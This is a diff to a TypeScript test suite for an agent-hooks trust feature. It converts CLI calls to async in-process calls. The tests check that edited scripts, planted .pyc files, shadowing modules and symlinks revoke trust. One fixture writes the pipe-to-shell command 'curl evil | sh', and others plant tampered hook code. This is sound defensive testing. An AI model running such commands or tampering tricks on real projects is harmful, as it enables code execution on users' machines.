@@ -5,7 +5,7 @@ import { spawnSync } from 'node:child_process';
 import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { isolatedEnv, runCli, tmpProject } from '../helpers.js';
+import { cliInProcess, isolatedEnv, runCli, tmpProject } from '../helpers.js';
 import { trustFile } from '../../src/trust/store.js';
 
 /** A user with a home of their own, and a cloned repository (with `.git`) holding these files. */
@@ -42,12 +42,12 @@ const CASES = [
 ];
 
 describe('a trusted config whose script changes is untrusted again', () => {
-  it.each(CASES)('$name: edited → does not run, the agent is told which file; trusted again → runs', ({ command, args, script, lang }) => {
+  it.each(CASES)('$name: edited → does not run, the agent is told which file; trusted again → runs', async ({ command, args, script, lang }) => {
     const hook = args === undefined ? { command } : { command, args };
     const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [hook] } }), [script]: writes[lang]('ran') });
     // Run as programs (./hook.sh, tools/guard) they need the x bit; interpreters do not care.
     chmodSync(path.join(dir, script), 0o755);
-    expect(runCli(['trust', '--yes'], { cwd: dir, env }).code).toBe(0);
+    expect((await cliInProcess(['trust', '--yes'], { cwd: dir, env })).code).toBe(0);
     expect(run(dir, env)).toBe('');
     expect(existsSync(path.join(dir, 'ran'))).toBe(true);
 
@@ -57,17 +57,17 @@ describe('a trusted config whose script changes is untrusted again', () => {
     expect(message).toContain(`${path.join(dir, '.hooksrc.json')} is no longer trusted: ${script} changed since "npx agent-hooks trust"`);
 
     // `hooks trust` shows what changed, and trusting again lets the new script run.
-    const shown = runCli(['trust'], { cwd: dir, env }).stdout;
+    const shown = (await cliInProcess(['trust'], { cwd: dir, env })).stdout;
     expect(shown).toMatch(new RegExp(`${script.replace('.', '\\.')} {2}sha256 [0-9a-f]{12}`));
-    expect(runCli(['trust', '--yes'], { cwd: dir, env }).code).toBe(0);
+    expect((await cliInProcess(['trust', '--yes'], { cwd: dir, env })).code).toBe(0);
     expect(run(dir, env)).toBe('');
     expect(existsSync(path.join(dir, 'pwned'))).toBe(true);
   });
 
-  it('deleted, or replaced by a link out of the project: untrusted, said as such', () => {
+  it('deleted, or replaced by a link out of the project: untrusted, said as such', async () => {
     const outside = tmpProject({ 'evil.py': writes.python('pwned') });
     const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 guards/check.py' }] } }), 'guards/check.py': writes.python('ran') });
-    runCli(['trust', '--yes'], { cwd: dir, env });
+    (await cliInProcess(['trust', '--yes'], { cwd: dir, env }));
     rmSync(path.join(dir, 'guards/check.py'));
     expect(run(dir, env)).toContain('guards/check.py was deleted since "npx agent-hooks trust"');
 
@@ -82,9 +82,9 @@ describe('a trusted config whose script changes is untrusted again', () => {
     expect(run(dir, env)).toContain('guards/check.py now leads outside the project');
   });
 
-  it('a script missing when trusted that appears later is a change', () => {
+  it('a script missing when trusted that appears later is a change', async () => {
     const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 later.py || true' }] } }) });
-    const shown = runCli(['trust', '--yes'], { cwd: dir, env }).stdout;
+    const shown = (await cliInProcess(['trust', '--yes'], { cwd: dir, env })).stdout;
     expect(shown).toContain('later.py  missing (trusted as missing');
     expect(run(dir, env)).toBe('');
     writeFileSync(path.join(dir, 'later.py'), writes.python('pwned'));
@@ -92,12 +92,12 @@ describe('a trusted config whose script changes is untrusted again', () => {
     expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
   });
 
-  it('files outside the project are reported by hooks trust, not hashed; absolute system paths are not listed', () => {
+  it('files outside the project are reported by hooks trust, not hashed; absolute system paths are not listed', async () => {
     const parent = tmpProject({ 'shared.py': writes.python('ran'), 'repo/.git/HEAD': '' });
     const dir = path.join(parent, 'repo');
     writeFileSync(path.join(dir, '.hooksrc.json'), JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 ../shared.py && /usr/bin/env true' }] } }));
     const env = isolatedEnv(tmpProject(), {}, { trust: false });
-    const shown = runCli(['trust', '--yes'], { cwd: dir, env }).stdout;
+    const shown = (await cliInProcess(['trust', '--yes'], { cwd: dir, env })).stdout;
     expect(shown).toContain(`not covered: ../shared.py (run by hooks.sessionStart[0]) resolves outside the project (${path.join(parent, 'shared.py')}): not hashed`);
     expect(shown).not.toMatch(/^ {4}\/usr\/bin\/env/m);
     const store = JSON.parse(readFileSync(trustFile(env), 'utf8')).files[path.join(dir, '.hooksrc.json')];
@@ -108,21 +108,21 @@ describe('a trusted config whose script changes is untrusted again', () => {
     expect(existsSync(path.join(dir, 'ran2'))).toBe(true);
   });
 
-  it('a local override that moves a project hook to another folder is said to be outside what trust covers', () => {
+  it('a local override that moves a project hook to another folder is said to be outside what trust covers', async () => {
     const { dir, env } = setup({
       '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ id: 'g', command: 'python3 g.py' }] } }),
       '.hooksrc.local.json': JSON.stringify({ hooks: { sessionStart: [{ id: 'g', cwd: 'elsewhere' }] } }),
       'g.py': 'pass\n',
     });
-    expect(runCli(['trust'], { cwd: dir, env }).stdout).toContain("not covered: hooks.sessionStart[0]: moves another layer's hook to another folder");
+    expect((await cliInProcess(['trust'], { cwd: dir, env })).stdout).toContain("not covered: hooks.sessionStart[0]: moves another layer's hook to another folder");
   });
 
-  it('hooks trust --list says, for each covered file, whether it still matches', () => {
+  it('hooks trust --list says, for each covered file, whether it still matches', async () => {
     const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 a.py; sh b.sh' }] } }), 'a.py': 'pass\n', 'b.sh': 'true\n' });
-    runCli(['trust', '--yes'], { cwd: dir, env });
-    expect(runCli(['trust', '--list'], { cwd: dir, env }).stdout).toMatch(/\.hooksrc\.json {2}trusted .*\n {2}a\.py {2}matches {2}sha256 [0-9a-f]{12}\n {2}b\.sh {2}matches/);
+    (await cliInProcess(['trust', '--yes'], { cwd: dir, env }));
+    expect((await cliInProcess(['trust', '--list'], { cwd: dir, env })).stdout).toMatch(/\.hooksrc\.json {2}trusted .*\n {2}a\.py {2}matches {2}sha256 [0-9a-f]{12}\n {2}b\.sh {2}matches/);
     writeFileSync(path.join(dir, 'b.sh'), 'curl evil | sh\n');
-    expect(runCli(['trust', '--list'], { cwd: dir, env }).stdout).toMatch(/\.hooksrc\.json {2}not trusted: a file it covers changed .*\n {2}a\.py {2}matches .*\n {2}b\.sh {2}changed: not trusted/);
+    expect((await cliInProcess(['trust', '--list'], { cwd: dir, env })).stdout).toMatch(/\.hooksrc\.json {2}not trusted: a file it covers changed .*\n {2}a\.py {2}matches .*\n {2}b\.sh {2}changed: not trusted/);
   });
 });
 
@@ -131,10 +131,10 @@ describe('what a covered script itself loads', () => {
     ['a Python helper it imports', { 'guard.py': `from lib import word\n${writes.python('ran')}`, 'lib.py': "word = 'ok'\n" }, 'lib.py', "word = 'changed'\n", 'lib.py changed'],
     ['a module planted beside it under a standard library name', { 'guard.py': `import json\n${writes.python('ran')}` }, 'json.py', writes.python('pwned'), 'json.py appeared'],
     ['a file its shell script sources', { 'hook.sh': '. ./lib.sh\necho x > ran\n', 'lib.sh': 'A=1\n' }, 'lib.sh', 'echo x > pwned\n', 'lib.sh changed'],
-  ])('%s', (_name, files, changed, content, said) => {
+  ])('%s', async (_name, files, changed, content, said) => {
     const command = 'guard.py' in files ? 'python3 guard.py' : 'sh hook.sh';
     const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command }] } }), ...files });
-    runCli(['trust', '--yes'], { cwd: dir, env });
+    (await cliInProcess(['trust', '--yes'], { cwd: dir, env }));
     expect(run(dir, env)).toBe('');
     expect(existsSync(path.join(dir, 'ran'))).toBe(true);
     writeFileSync(path.join(dir, changed), content);
@@ -149,9 +149,9 @@ describe('a trusted JS config: its local imports are covered', () => {
 
   it.each([['helpers.js', (dir: string) => writeFileSync(path.join(dir, 'helpers.js'), helpers('pwned'))], ['deep/name.mjs (imported by the helper)', (dir: string) => writeFileSync(path.join(dir, 'deep/name.mjs'), "export const name = 'changed';\nimport('node:fs').then((fs) => fs.writeFileSync(new URL('../pwned', import.meta.url), 'x'));\n")]])(
     '%s changed → untrusted, and not imported',
-    (file, change) => {
+    async (file, change) => {
       const { dir, env } = setup({ 'hooks.config.mjs': config, 'helpers.js': helpers('imported'), 'deep/name.mjs': "export const name = 'ok';\n" });
-      const shown = runCli(['trust', '--yes'], { cwd: dir, env }).stdout;
+      const shown = (await cliInProcess(['trust', '--yes'], { cwd: dir, env })).stdout;
       expect(shown).toMatch(/helpers\.js {2}sha256 [0-9a-f]{12} {2}\(imported by hooks\.config\.mjs\)/);
       expect(shown).toMatch(/deep\/name\.mjs {2}sha256 [0-9a-f]{12} {2}\(imported by helpers\.js\)/);
       expect(run(dir, env)).toBe('');
@@ -166,14 +166,14 @@ describe('a trusted JS config: its local imports are covered', () => {
 });
 
 describe('a trusted JS config: the commands it spells out as literals', () => {
-  it('a script named in a literal command is covered like a JSON config\'s', () => {
+  it('a script named in a literal command is covered like a JSON config\'s', async () => {
     const { dir, env } = setup({
       'hooks.config.mjs': "const guard = 'python3 guards/check.py';\nexport default { hooks: { sessionStart: [{ command: guard }, { command: \"\\\"$CLAUDE_PROJECT_DIR\\\"/hook.sh\" }] } };\n",
       'guards/check.py': writes.python('ran'),
       'hook.sh': writes.sh('ran2'),
     });
     chmodSync(path.join(dir, 'hook.sh'), 0o755);
-    const shown = runCli(['trust', '--yes'], { cwd: dir, env }).stdout;
+    const shown = (await cliInProcess(['trust', '--yes'], { cwd: dir, env })).stdout;
     expect(shown).toMatch(/guards\/check\.py {2}sha256 [0-9a-f]{12} {2}\(named in hooks\.config\.mjs: "python3 guards\/check\.py"\)/);
     expect(shown).toMatch(/hook\.sh {2}sha256 [0-9a-f]{12}/);
     expect(run(dir, env)).toBe('');
@@ -185,9 +185,9 @@ describe('a trusted JS config: the commands it spells out as literals', () => {
 });
 
 describe('an entry recorded before covers', () => {
-  it('trusts nothing until hooks trust records it again, and says so', () => {
+  it('trusts nothing until hooks trust records it again, and says so', async () => {
     const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 guard.py' }] } }), 'guard.py': writes.python('ran') });
-    runCli(['trust', '--yes'], { cwd: dir, env });
+    (await cliInProcess(['trust', '--yes'], { cwd: dir, env }));
     // What the version before covers wrote: the config's bytes only.
     const store = JSON.parse(readFileSync(trustFile(env), 'utf8'));
     for (const entry of Object.values(store.files) as { covers?: unknown }[]) delete entry.covers;
@@ -195,17 +195,17 @@ describe('an entry recorded before covers', () => {
     const message = run(dir, env);
     expect(existsSync(path.join(dir, 'ran'))).toBe(false);
     expect(message).toContain(`${path.join(dir, '.hooksrc.json')} was trusted by an older agent-hooks, whose trust did not cover the scripts its commands run, so its hooks do not run; review it, then run: npx agent-hooks trust`);
-    expect(runCli(['trust', '--list'], { cwd: dir, env }).stdout).toContain('trusted by an older agent-hooks');
-    expect(runCli(['trust', '--yes'], { cwd: dir, env }).stdout).not.toContain('already trusted');
+    expect((await cliInProcess(['trust', '--list'], { cwd: dir, env })).stdout).toContain('trusted by an older agent-hooks');
+    expect((await cliInProcess(['trust', '--yes'], { cwd: dir, env })).stdout).not.toContain('already trusted');
     expect(run(dir, env)).toBe('');
     expect(existsSync(path.join(dir, 'ran'))).toBe(true);
   });
 });
 
 describe('the config cache never serves a config whose script changed', () => {
-  it('a run that wrote the cache, then an edited script: not run', () => {
+  it('a run that wrote the cache, then an edited script: not run', async () => {
     const { home, dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'sh hook.sh' }] } }), 'hook.sh': writes.sh('ran') });
-    runCli(['trust', '--yes'], { cwd: dir, env });
+    (await cliInProcess(['trust', '--yes'], { cwd: dir, env }));
     expect(run(dir, env)).toBe('');
     expect(run(dir, env)).toBe('');
     expect(existsSync(path.join(home, '.cache/agent-hooks/config'))).toBe(true);
@@ -227,13 +227,13 @@ describe('what Python loads besides a source file: bytecode, extension modules, 
   /** Python run by hand in the repository, as the agent can: proves the planted file is what Python loads. */
   const runByHand = (dir: string, script: string) => spawnSync('python3', [script], { cwd: dir, encoding: 'utf8' });
 
-  it('an unchecked-hash .pyc planted in __pycache__ for an imported helper: untrusted, the run names it', () => {
+  it('an unchecked-hash .pyc planted in __pycache__ for an imported helper: untrusted, the run names it', async () => {
     const { dir, env } = setup({
       '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 guards/check.py' }] } }),
       'guards/check.py': 'from policy import decide\ndecide()\n',
       'guards/policy.py': `def decide():\n    ${writes.python('ran')}`,
     });
-    expect(runCli(['trust', '--yes'], { cwd: dir, env }).code).toBe(0);
+    expect((await cliInProcess(['trust', '--yes'], { cwd: dir, env })).code).toBe(0);
     expect(run(dir, env)).toBe('');
     expect(existsSync(path.join(dir, 'ran'))).toBe(true);
 
@@ -246,18 +246,18 @@ describe('what Python loads besides a source file: bytecode, extension modules, 
 
     expect(run(dir, env)).toContain(`is no longer trusted: guards/__pycache__/policy.*.pyc appeared since "npx agent-hooks trust"`);
     expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
-    expect(runCli(['trust', '--list'], { cwd: dir, env }).stdout).toMatch(/not trusted: a file it covers changed[^]*guards\/__pycache__\/policy\.\*\.pyc {2}appeared: not trusted/);
+    expect((await cliInProcess(['trust', '--list'], { cwd: dir, env })).stdout).toMatch(/not trusted: a file it covers changed[^]*guards\/__pycache__\/policy\.\*\.pyc {2}appeared: not trusted/);
     // Trusted again with the cache as it is: the same bytes are fine, other bytes are a change.
-    expect(runCli(['trust', '--yes'], { cwd: dir, env }).code).toBe(0);
+    expect((await cliInProcess(['trust', '--yes'], { cwd: dir, env })).code).toBe(0);
     expect(run(dir, env)).toBe('');
     compilePyc(`def decide():\n    ${writes.python('pwned2')}`, path.join(dir, pyc), 'UNCHECKED_HASH');
     expect(run(dir, env)).toContain('guards/__pycache__/policy.*.pyc changed since');
     expect(existsSync(path.join(dir, 'pwned2'))).toBe(false);
   });
 
-  it('a sourceless json.pyc beside the script shadows the standard library: untrusted', () => {
+  it('a sourceless json.pyc beside the script shadows the standard library: untrusted', async () => {
     const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 guard.py' }] } }), 'guard.py': `import json\n${writes.python('ran')}` });
-    runCli(['trust', '--yes'], { cwd: dir, env });
+    (await cliInProcess(['trust', '--yes'], { cwd: dir, env }));
     expect(run(dir, env)).toBe('');
     compilePyc(writes.python('pwned'), path.join(dir, 'json.pyc'), 'TIMESTAMP');
     expect(runByHand(dir, 'guard.py').status).toBe(0);
@@ -267,26 +267,26 @@ describe('what Python loads besides a source file: bytecode, extension modules, 
     expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
   });
 
-  it('an extension module planted under an imported name: untrusted', () => {
+  it('an extension module planted under an imported name: untrusted', async () => {
     const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 guard.py' }] } }), 'guard.py': `import lib\n${writes.python('ran')}`, 'lib.py': 'pass\n' });
-    runCli(['trust', '--yes'], { cwd: dir, env });
+    (await cliInProcess(['trust', '--yes'], { cwd: dir, env }));
     expect(run(dir, env)).toBe('');
     writeFileSync(path.join(dir, 'lib.abi3.so'), '\x7fELF not really');
     expect(run(dir, env)).toContain('lib*.so appeared since "npx agent-hooks trust"');
   });
 
-  it('from a.b import c: the submodule a/b.py is covered, not only a/__init__.py', () => {
+  it('from a.b import c: the submodule a/b.py is covered, not only a/__init__.py', async () => {
     const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 guard.py' }] } }), 'guard.py': `from a.b import c\n${writes.python('ran')}`, 'a/__init__.py': '', 'a/b.py': 'c = 1\n' });
-    expect(runCli(['trust', '--yes'], { cwd: dir, env }).stdout).toMatch(/a\/b\.py {2}sha256 [0-9a-f]{12} {2}\(imported by guard\.py\)/);
+    expect((await cliInProcess(['trust', '--yes'], { cwd: dir, env })).stdout).toMatch(/a\/b\.py {2}sha256 [0-9a-f]{12} {2}\(imported by guard\.py\)/);
     expect(run(dir, env)).toBe('');
     writeFileSync(path.join(dir, 'a/b.py'), `c = 1\n${writes.python('pwned')}`);
     expect(run(dir, env)).toContain('a/b.py changed since "npx agent-hooks trust"');
     expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
   });
 
-  it('python3 -m pkg.mod: the module and its packages are covered from the hook folder, and hooks trust says so', () => {
+  it('python3 -m pkg.mod: the module and its packages are covered from the hook folder, and hooks trust says so', async () => {
     const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 -m pkg.mod' }] } }), 'pkg/__init__.py': '', 'pkg/mod.py': writes.python('ran') });
-    const shown = runCli(['trust', '--yes'], { cwd: dir, env }).stdout;
+    const shown = (await cliInProcess(['trust', '--yes'], { cwd: dir, env })).stdout;
     expect(shown).toMatch(/pkg\/mod\.py {2}sha256 [0-9a-f]{12} {2}\(run by hooks\.sessionStart\[0\]\)/);
     expect(shown).toContain("not covered: hooks.sessionStart[0]: python -m pkg.mod when found on sys.path elsewhere than in the hook's folder (.)");
     expect(run(dir, env)).toBe('');
@@ -296,10 +296,10 @@ describe('what Python loads besides a source file: bytecode, extension modules, 
     expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
   });
 
-  it('a hook run writes no bytecode cache of its own, so a trusted Python guard stays trusted when the user allows caches', () => {
+  it('a hook run writes no bytecode cache of its own, so a trusted Python guard stays trusted when the user allows caches', async () => {
     const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 guard.py' }] } }), 'guard.py': `from lib import word\n${writes.python('ran')}`, 'lib.py': "word = 'ok'\n" });
     delete env.PYTHONDONTWRITEBYTECODE;
-    runCli(['trust', '--yes'], { cwd: dir, env });
+    (await cliInProcess(['trust', '--yes'], { cwd: dir, env }));
     expect(run(dir, env)).toBe('');
     expect(existsSync(path.join(dir, '__pycache__'))).toBe(false);
     expect(run(dir, env)).toBe('');
